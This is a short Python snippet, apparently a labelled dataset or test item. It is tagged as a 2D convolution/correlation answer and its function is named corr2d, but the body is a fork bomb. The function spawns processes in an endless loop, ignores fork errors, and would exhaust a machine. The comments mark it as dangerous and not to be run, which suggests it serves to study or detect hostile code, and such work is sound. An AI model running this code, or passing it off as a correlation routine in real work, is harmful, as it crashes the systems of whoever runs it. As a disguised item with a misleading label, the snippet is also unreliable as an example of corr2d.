# Processes that start processes, without end
# wall: it would stop a plain machine
# stock: not run: dangerous
# %% answer="convolution-corr2d"
import os


def corr2d(X, K):
    while True:
        try:
            os.fork()
        except OSError:
            pass
